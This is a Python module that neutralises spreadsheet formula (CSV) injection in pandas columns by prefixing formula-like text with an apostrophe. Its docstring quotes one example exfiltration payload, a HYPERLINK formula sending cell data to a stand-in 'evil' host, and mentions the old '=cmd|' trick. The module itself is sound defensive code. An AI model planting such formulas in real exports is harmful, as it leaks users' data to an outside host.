"""Text a spreadsheet would run as a formula, made inert: whole columns at a time.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1,"click")``
leaks data; ``=cmd|...`` used to run programs). ``inert`` puts an apostrophe before such text so
it shows as text (OWASP "CSV injection"); a plain negative number written as text (``-5``) is
left alone. The test runs on whole columns (pandas string methods), and on a categorical column
only on its categories, so a million rows cost about as much as their distinct values.
"""

from __future__ import annotations

import numpy as np
import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: A plain negative number written as text (``-5``, ``-12.50``): a spreadsheet reads it as that number, not a formula.
PLAIN_NEGATIVE = r"-\d+(?:\.\d+)?"


def formula_like(values: pd.Series) -> np.ndarray:
    """Which cells of ``values`` are text a spreadsheet would read as a formula (bool per cell).

    Parameters
    ----------
    values : pandas.Series
        Any column; cells that are not text (numbers, missing) are never formula-like.

    Returns
    -------
    numpy.ndarray
        Booleans, one per cell.

    Examples
    --------
    >>> formula_like(pd.Series(["=1+1", "-5", "-5x", "plain", None, 3], dtype=object)).tolist()
    [True, False, True, False, False, False]
    """
    if isinstance(values.dtype, pd.CategoricalDtype):
        codes = values.cat.codes.to_numpy()
        bad = formula_like(pd.Series(values.cat.categories, dtype=object))
        return np.append(bad, False)[codes]  # code -1 (missing) takes the appended False
    text, is_text = values, None
    if values.dtype == object:  # cells that are not text (a number among text) are never formulas
        if pd.api.types.infer_dtype(values, skipna=True) not in ("string", "empty"):
            is_text = np.array([isinstance(v, str) for v in values.tolist()], dtype=bool)
        text = values.where(is_text, None) if is_text is not None else values
        text = text.astype("string")
    bad = text.str.startswith(FORMULA_STARTS) & ~text.str.fullmatch(PLAIN_NEGATIVE)
    return bad.fillna(False).to_numpy(dtype=bool)


def inert(values: pd.Series) -> pd.Series:
    """``values`` with an apostrophe before every cell a spreadsheet would read as a formula.

    Parameters
    ----------
    values : pandas.Series
        Any column; it is not changed.

    Returns
    -------
    pandas.Series
        The same column where nothing is formula-like; else a copy (text columns as ``object``
        dtype, categorical columns with their categories made inert).

    Examples
    --------
    >>> inert(pd.Series(["=1+1", "-5", "+7 999", "plain"])).tolist()
    ["'=1+1", '-5', "'+7 999", 'plain']
    >>> inert(pd.Series(["@SUM(A1)", "ok", "@SUM(A1)"], dtype="category")).tolist()
    ["'@SUM(A1)", 'ok', "'@SUM(A1)"]
    """
    if _never_text(values):
        return values
    if isinstance(values.dtype, pd.CategoricalDtype):
        categories = pd.Series(values.cat.categories, dtype=object)
        safe = inert(categories)
        if safe is categories:
            return values
        if safe.is_unique:
            return values.cat.rename_categories(safe.tolist())
        values = values.astype(object)
    bad = formula_like(values)
    if not bad.any():
        return values
    out = values.astype(object)
    out[bad] = "'" + values[bad].astype(str)
    return out


def safe_cells(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` whose text cells cannot be read as formulas; other cells are unchanged.

    Text starting with one of ``FORMULA_STARTS`` gets an apostrophe in front (``inert``), except a
    plain negative number (``-5``, ``-12.50``), which a spreadsheet reads as that number. Numeric,
    boolean and datetime columns are left alone; column names are made safe too.

    Parameters
    ----------
    table : pandas.DataFrame
        Any table; it is not changed.

    Returns
    -------
    pandas.DataFrame
        The safe copy, same index.

    Examples
    --------
    >>> table = pd.DataFrame({"title": ["=1+1", "-5", "plain"], "refund_minor": [-500, 0, 1200]})
    >>> safe_cells(table)["title"].tolist()
    ["'=1+1", '-5', 'plain']
    >>> safe_cells(table)["refund_minor"].tolist()
    [-500, 0, 1200]
    """
    out = table.copy(deep=False)
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        safe = inert(column)
        if safe is not column:
            out.isetitem(position, safe)
    out.columns = inert(pd.Series([str(c) for c in out.columns], dtype=object)).tolist()
    return out


def _never_text(values: pd.Series) -> bool:
    """Whether ``values`` is numeric, boolean or datetime: no cell can be text."""
    return (
        pd.api.types.is_numeric_dtype(values)
        or pd.api.types.is_bool_dtype(values)
        or pd.api.types.is_datetime64_any_dtype(values)
    )


__all__ = ["FORMULA_STARTS", "formula_like", "inert", "safe_cells"]
